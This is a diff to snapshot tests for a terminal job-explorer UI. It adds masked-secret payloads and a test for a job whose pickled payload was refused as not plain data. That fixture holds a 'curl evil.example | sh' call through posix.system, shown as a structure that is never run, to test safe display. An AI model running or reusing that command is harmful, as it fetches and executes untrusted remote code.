@@ -13,6 +13,7 @@ from tui.data.explorer.pages import ExplorerPage
 from tui.data.explorer.query import Filter
 from tui.data.explorer.rows import ExplorerRow
 from tui.data.job_meta import JobDetail
+from tui.data.job_payload import Payload
 from tui.screens.explorer_detail import ExplorerDetailScreen
 
 SMALL, LARGE = (80, 24), (160, 50)
@@ -44,9 +45,15 @@ class ExplorerFake(FakeReader):
         return ExplorerPage(flt, 0, limit, tuple(rows), "registry", len(rows), read_at=NOW)
 
     def job_detail(self, job_id: str) -> JobDetail:
-        row = next(r for r in canned_rows() if r.redis_id == job_id)
+        rows = canned_rows()
+        row = next(r for r in rows if r.redis_id == job_id)
+        payload = Payload(True, "['order-17', 3]", (("password", "***"), ("dsn", "redis://:***@cache:6379/0")))
+        if row is rows[1]:  # the second row: a payload that is not plain data, shown as its structure
+            payload = Payload(False, structure="args=(posix.system('curl evil.example | sh'), 'order-17') kwargs={}",
+                              globals=("posix.system",), note="not plain data (shown, never executed)")
         return JobDetail(**vars(replace(row.job, state="failed")), retries=2, retries_left=0, error=row.error,
-                         meta=(("progress", "40%"),), dependencies=(("3f2a9c1e5b", "completed"),))
+                         meta=(("progress", "40%"),), dependencies=(("3f2a9c1e5b", "completed"),),
+                         payload=payload, number_of_retries=2)
 
     def job_attempts(self, job_id: str, task: str | None = None) -> AttemptHistory:
         attempts = tuple(Attempt(outcome, at(-600 * n - 60), at(-600 * n - 30), "host-a.1201", error)
@@ -73,6 +80,11 @@ def open_explorer(*keys: str, drawer: bool = False) -> Any:
         await wait_until(lambda: app.explorer_pane.page is not None, pilot)
         await pilot.press(*keys)
         if drawer:
+            await settle(pilot)  # the table behind the drawer measures its columns first
+            table = app.explorer_pane.table
+            table._clear_caches()  # a header line rendered before the widths grew can stay cached: draw it again
+            table.refresh()
+            await settle(pilot)
             await pilot.press("enter")
             await wait_until(lambda: isinstance(app.screen, ExplorerDetailScreen), pilot)
         await settle(pilot)
@@ -91,5 +103,10 @@ def test_explorer_at_160x50(snap_compare: Any) -> None:
 
 
 def test_drawer_at_160x50(snap_compare: Any) -> None:
-    """The drawer at full size."""
+    """The drawer at full size: health, attempts n of max, args and kwargs masked."""
     assert snap_compare(make_app(ExplorerFake()), terminal_size=LARGE, run_before=open_explorer(drawer=True))
+
+
+def test_drawer_with_a_payload_that_is_not_plain_data(snap_compare: Any) -> None:
+    """The drawer of a job whose payload the plain-data unpickler refused: its structure and the names in it."""
+    assert snap_compare(make_app(ExplorerFake()), terminal_size=LARGE, run_before=open_explorer("down", drawer=True))
